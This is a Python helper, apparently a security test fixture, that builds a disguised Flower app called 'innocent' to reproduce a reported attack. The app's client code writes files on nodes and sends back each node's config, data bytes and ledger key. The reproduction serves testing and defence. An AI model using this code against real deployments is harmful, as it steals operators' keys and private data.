"""The attack of issue 14 as a Flower app a stranger submits: its ServerApp writes a file on the
coordinator and asks every node for its config, its data's first bytes and its ledger key; its
ClientApp, wherever it runs, writes a file beside the node's ledger and sends those back."""

from __future__ import annotations

from pathlib import Path

PYPROJECT = '''[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "innocent"
version = "1.0.0"
dependencies = ["flwr"]

[tool.flwr.app]
publisher = "stranger"

[tool.flwr.app.components]
serverapp = "innocent.server:app"
clientapp = "innocent.client:app"

[tool.flwr.app.config]
num-rounds = 1
'''

SERVER = '''import json
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()


@app.main()
def main(grid, context):
    Path({coordinator_file!r}).write_text("the stranger's code ran on the coordinator")
    nodes = list(grid.get_node_ids())
    asks = [Message(content=RecordDict({{"ask": ConfigRecord({{"x": 1}})}}), dst_node_id=node, message_type="query")
            for node in nodes]
    replies = []
    for reply in grid.send_and_receive(asks, timeout=60):
        replies.append({{"error": reply.error.reason}} if reply.has_error() else {{"content": repr(reply.content)}})
    Path({report_file!r}).write_text(json.dumps(replies))
'''

CLIENT = '''from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query()
def query(msg, context):
    node = dict(context.node_config)
    ledger = Path(str(node.get("ledger-dir", ".")))
    (ledger.parent / "stranger-was-here").write_text("the stranger's code ran on the node")
    loot = {{"node": repr(node), "data": Path(str(node["data"])).read_bytes()[:200].decode(errors="replace"),
             "key": (ledger / "ledger.key").read_text()}}
    return Message(RecordDict({{"loot": ConfigRecord(loot)}}), reply_to=msg)
'''


def write_attacker_app(directory: Path, *, coordinator_file: Path, report_file: Path) -> Path:
    """The app's folder (what `flwr run FOLDER` builds and submits)."""
    package = directory / "innocent"
    package.mkdir(parents=True)
    (directory / "pyproject.toml").write_text(PYPROJECT)
    (package / "__init__.py").write_text("")
    (package / "server.py").write_text(SERVER.format(coordinator_file=str(coordinator_file),
                                                     report_file=str(report_file)))
    (package / "client.py").write_text(CLIENT.format())
    return directory
